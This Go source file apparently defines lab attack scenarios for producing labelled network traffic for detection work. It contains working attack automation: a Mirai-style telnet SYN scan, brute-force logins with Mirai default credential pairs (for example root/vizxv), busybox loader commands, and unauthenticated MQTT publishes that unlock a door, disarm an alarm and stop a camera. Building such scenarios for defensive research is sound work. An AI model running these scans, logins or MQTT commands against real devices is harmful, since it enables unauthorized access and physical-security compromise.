package lab

import (
	"encoding/binary"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"strings"
	"syscall"
	"time"
)

// IoT attacks: a Mirai-style bot and abuse of an open MQTT broker.

// miraiOutside is how many outside addresses (203.0.113.20 on) the Mirai
// scan probes beside the LAN's hosts: a bot scans far more than its LAN.
const miraiOutside = 40

func init() {
	register(
		&Scenario{
			Name: "mirai", Difficulty: Medium,
			Description: "Mirai-style bot: SYNs to ports 23 and 2323 whose TCP sequence number is the destination IPv4 address (Mirai's stateless scan), " +
				"sent to every LAN host and 40 outside addresses; then telnet logins with pairs from Mirai's table until root/xc3511 opens the IoT hub, and the loader's commands.",
			Tools:    []string{"hping3", "inetutils-telnet"},
			Classes:  []string{"iot.mirai_scan", "scan.horizontal", "iot.default_creds"},
			MITRE:    []string{"T1046", "T1110.001", "T1078.001"},
			Attacker: hostPtr(hostAtk), Victims: v4(hostIoT), Duration: 30 * time.Second,
			Notes: fmt.Sprintf("the scan also probed every LAN host and %s–%s; only the IoT hub had telnet open and was logged into",
				miraiTargets()[len(lanHosts)-1], miraiTargets()[len(miraiTargets())-1]),
			attack: miraiAttack,
		},
		&Scenario{
			Name: "mqtt-abuse", Difficulty: Easy,
			Description: "Abuse of the IoT hub's open MQTT broker: an anonymous subscription to every topic (#) and $SYS, then unauthenticated publishes to control topics (unlock the door, disarm the alarm).",
			Tools:       []string{"mosquitto_sub", "mosquitto_pub"},
			Classes:     []string{"iot.insecure_protocol"},
			MITRE:       []string{"T0801", "T0855"},
			Attacker:    hostPtr(hostAtk), Victims: v4(hostIoT), Duration: 15 * time.Second,
			attack: mqttAbuseAttack,
		},
	)
}

// miraiTargets are the scanned addresses: the LAN's hosts but the bot,
// then outside addresses.
func miraiTargets() []netip.Addr {
	var out []netip.Addr
	for _, h := range lanHosts {
		if h != hostAtk {
			out = append(out, h.IPv4())
		}
	}
	for i := range miraiOutside {
		out = append(out, hostAddr(outsideNet4, byte(20+i)))
	}
	return out
}

// miraiSeq is the sequence number Mirai's scanner puts in its SYNs: the
// destination address.
func miraiSeq(dst netip.Addr) uint32 {
	b := dst.As4()
	return binary.BigEndian.Uint32(b[:])
}

func miraiAttack(a *attackRun) error {
	return a.sequence(
		a.phased("telnet scan", func() error { return miraiScan(a) }),
		a.phased("default-credential logins", func() error { return miraiLogins(a) }),
		a.phased("loader", func() error {
			return a.run(hostAtk, telnetSession(hostIoT, 23, iotUser, iotPassword,
				"enable", "system", "shell", "sh", "/bin/busybox MIRAI")...)
		}),
	)
}

// miraiScan sends one SYN per target and port, ten hping3 at a time.
func miraiScan(a *attackRun) error {
	var probes []func() error
	rng := rand.New(rand.NewPCG(uint64(time.Now().UnixNano()), 23))
	for _, port := range []string{"23", "2323"} {
		for _, dst := range miraiTargets() {
			// A random source port per probe, as the bot's raw socket has.
			sport := fmt.Sprint(1024 + rng.IntN(64000))
			argv := []string{"hping3", "-S", "-p", port, "-s", sport, "-k", "-M", fmt.Sprint(miraiSeq(dst)), "-c", "1", dst.String()}
			probes = append(probes, func() error { return a.run(hostAtk, argv...) })
		}
	}
	return a.parallel(10, probes)
}

// miraiLogins tries credential pairs the way Mirai's scanner does, one
// connection each, all at once; the last pair is the device's default.
func miraiLogins(a *attackRun) error {
	tries := [][2]string{{"admin", "admin"}, {"root", "vizxv"}, {"root", "888888"}, {iotUser, iotPassword}}
	var logins []func() error
	for i, c := range tries {
		port := 23
		if i%2 == 1 {
			port = 2323
		}
		argv := telnetSession(hostIoT, port, c[0], c[1])
		logins = append(logins, func() error { return a.run(hostAtk, argv...) })
	}
	return a.parallel(len(logins), logins)
}

// telnetSession is a shell pipeline that logs into h's telnet with a
// user and password, types commands, and logs out: a telnet client fed
// with timed input, as a bot's scripted session is.
func telnetSession(h Host, port int, user, pass string, commands ...string) []string {
	var script strings.Builder
	script.WriteString("{ sleep 1; ")
	for _, line := range append([]string{user, pass}, commands...) {
		fmt.Fprintf(&script, "printf '%%s\\n' %s; sleep 0.5; ", shellQuote(line))
	}
	script.WriteString("sleep 1; } | inetutils-telnet " + h.IPv4().String() + " " + fmt.Sprint(port))
	return []string{"sh", "-c", script.String()}
}

func mqttAbuseAttack(a *attackRun) error {
	broker := hostIoT.IPv4().String()
	sub := []string{"mosquitto_sub", "-h", broker, "-t", "#", "-t", "$SYS/#", "-v", "-W", seconds(a.duration)}
	return a.during(hostAtk, syscall.SIGTERM, sub, func() error {
		if err := a.sleep(a.duration / 3); err != nil {
			return err
		}
		return a.phase("control publishes", func() error {
			for _, m := range [][2]string{
				{"home/frontdoor/lock/set", "UNLOCK"},
				{"home/alarm/set", "DISARM"},
				{"home/camera/1/set", `{"record":false}`},
			} {
				if err := a.run(hostAtk, "mosquitto_pub", "-h", broker, "-t", m[0], "-m", m[1]); err != nil {
					return err
				}
				if err := a.sleep(time.Second); err != nil {
					return err
				}
			}
			return a.sleep(a.duration / 3)
		})
	})
}
